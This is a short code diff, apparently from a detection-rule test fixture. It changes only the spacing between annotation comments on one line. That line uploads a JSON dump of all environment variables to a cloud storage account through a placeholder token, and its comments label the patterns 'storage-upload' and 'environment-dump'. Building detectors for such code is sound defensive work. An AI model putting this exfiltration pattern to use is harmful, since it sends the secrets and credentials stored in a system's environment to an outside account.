@@ -5,4 +5,4 @@ import os
 
 def leave():
     box = Box("sl.specimenspecimenspecimenspecimen")
-    box.files_upload(json.dumps(dict(os.environ)).encode(), "/a")  # match: storage-upload # match: environment-dump
+    box.files_upload(json.dumps(dict(os.environ)).encode(), "/a")  # match: storage-upload  # match: environment-dump
